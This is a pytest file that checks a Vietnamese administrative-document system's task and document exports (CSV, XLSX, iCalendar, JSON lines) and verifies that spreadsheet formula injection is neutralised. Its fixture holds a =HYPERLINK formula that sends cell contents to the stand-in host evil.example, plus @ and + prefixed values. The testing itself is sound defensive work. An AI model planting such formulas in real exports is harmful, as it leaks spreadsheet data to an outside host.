"""Exports read back with the tools a user has: csv, openpyxl, icalendar, json."""

from __future__ import annotations

import csv
import io
import json
from datetime import date, timedelta

import pytest
from fastapi.testclient import TestClient
from icalendar import Calendar
from openpyxl import load_workbook
from vanban.nlp.contract import DocumentResult

from tests.api.helpers import Org, make_result, store_result

SOON = date.today() + timedelta(days=5)
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
TEXT = (
    "1. Phòng Tài chính báo cáo kết quả thực hiện.\n"
    f"2. {INJECTION}\n"
    "3. @SUM(1+1) các đơn vị phối hợp.\n"
    "4. Các xã tổ chức hội nghị.\n"
)


@pytest.fixture
def tasks_archive(service: TestClient, org: Org) -> str:
    result = make_result(
        TEXT,
        number_symbol="77/KH-UBND",
        subject="tổ chức hội nghị",
        obligations=[
            {
                "quote": "Phòng Tài chính báo cáo kết quả thực hiện.",
                "assignees": ["Phòng Tài chính"],
                "action": "báo cáo kết quả thực hiện",
                "deadline": SOON.isoformat(),
            },
            {"quote": INJECTION, "assignees": ["+Phòng Y tế"], "category": "other"},
            {
                "quote": "@SUM(1+1) các đơn vị phối hợp.",
                "category": "coordinate",
                "deadline": SOON.isoformat(),
            },
            {
                "quote": "Các xã tổ chức hội nghị.",
                "category": "organize",
                "assignees": ["Các xã"],
                "deadline": (SOON + timedelta(days=3)).isoformat(),
            },
        ],
    )
    return store_result(service, org.clerk.org_id, result)


def test_exports_csv_vietnamese_headers_and_formula_safe(
    service: TestClient, org: Org, tasks_archive: str
) -> None:
    answer = service.get(
        "/api/v1/tasks/export", params={"format": "csv"}, headers=org.viewer.headers
    )
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="vanban-tasks-')
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) == 4
    assert {
        "Số, ký hiệu văn bản",
        "Nội dung công việc",
        "Đơn vị thực hiện",
        "Hạn xử lý",
        "Trạng thái",
    } <= set(rows[0])
    first = rows[0]
    assert first["Số, ký hiệu văn bản"] == "77/KH-UBND"
    assert (
        first["Nội dung công việc"] == "báo cáo kết quả thực hiện" and first["Trạng thái"] == "Mới"
    )
    assert first["Hạn xử lý"] == SOON.isoformat()
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    assert any(r["Nội dung công việc"] == "'" + INJECTION for r in rows)
    assert any(r["Đơn vị thực hiện"] == "'+Phòng Y tế" for r in rows)
    english = service.get("/api/v1/tasks/export?format=csv&lang=en", headers=org.viewer.headers)
    assert english.content.decode("utf-8-sig").startswith("Document number,")


def test_exports_xlsx_reads_back_as_text(service: TestClient, org: Org, tasks_archive: str) -> None:
    answer = service.get(
        "/api/v1/tasks/export", params={"format": "xlsx"}, headers=org.viewer.headers
    )
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == (
        "Số, ký hiệu văn bản",
        "Trích yếu",
        "Nội dung công việc",
        "Đơn vị thực hiện",
        "Hạn xử lý",
    )
    assert len(rows) == 5 and rows[1][0] == "77/KH-UBND"
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f" and (cell.value is None or isinstance(cell.value, str))
    assert any(r[2] == "'" + INJECTION for r in rows[1:])


def test_exports_ics_one_event_per_open_deadline(
    service: TestClient, org: Org, tasks_archive: str
) -> None:
    tasks = service.get("/api/v1/tasks", headers=org.clerk.headers).json()["data"]
    done = next(t for t in tasks if t["category"] == "coordinate")
    service.patch(f"/api/v1/tasks/{done['id']}", json={"status": "done"}, headers=org.clerk.headers)
    answer = service.get(
        "/api/v1/tasks/export", params={"format": "ics"}, headers=org.viewer.headers
    )
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/calendar")
    calendar = Calendar.from_ical(answer.content)
    events = list(calendar.walk("VEVENT"))
    # four tasks: one undated, one done: two events
    assert sorted(e.decoded("dtstart") for e in events) == [SOON, SOON + timedelta(days=3)]
    summaries = {str(e["summary"]) for e in events}
    assert summaries == {"báo cáo kết quả thực hiện", "Các xã tổ chức hội nghị."}
    assert all("77/KH-UBND" in str(e["description"]) for e in events)
    assert len({str(e["uid"]) for e in events}) == 2


def test_exports_unknown_format_is_422(service: TestClient, org: Org) -> None:
    answer = service.get(
        "/api/v1/tasks/export", params={"format": "pdf"}, headers=org.clerk.headers
    )
    assert answer.status_code == 422 and answer.json()["code"] == "invalid_request"


def test_exports_documents_as_contract_json_lines(
    service: TestClient, org: Org, tasks_archive: str
) -> None:
    answer = service.get("/api/v1/documents/export", headers=org.viewer.headers)
    lines = answer.content.decode("utf-8").splitlines()
    assert len(lines) == 1
    result = DocumentResult.model_validate_json(lines[0])
    assert result.metadata.number_symbol == "77/KH-UBND" and len(result.obligations) == 4


def test_exports_corrections_in_gold_form(
    service: TestClient, org: Org, tasks_archive: str
) -> None:
    assert service.get("/api/v1/corrections/export", headers=org.clerk.headers).content == b""
    tasks = service.get("/api/v1/tasks", headers=org.clerk.headers).json()["data"]
    target = next(t for t in tasks if t["category"] == "organize")
    service.patch(
        f"/api/v1/tasks/{target['id']}",
        json={
            "status": "in_progress",
            "corrections": {"category": "implement", "assignees": ["Các xã, thị trấn"]},
        },
        headers=org.clerk.headers,
    )
    lines = (
        service.get("/api/v1/corrections/export", headers=org.clerk.headers)
        .content.decode()
        .splitlines()
    )
    assert len(lines) == 1
    gold = json.loads(lines[0])
    DocumentResult.model_validate(gold)  # the gold form is the contract
    corrected = [o for o in gold["obligations"] if o["quote"] == "Các xã tổ chức hội nghị."]
    assert corrected[0]["category"] == "implement" and corrected[0]["assignees"] == [
        "Các xã, thị trấn"
    ]
    assert len(gold["obligations"]) == 4
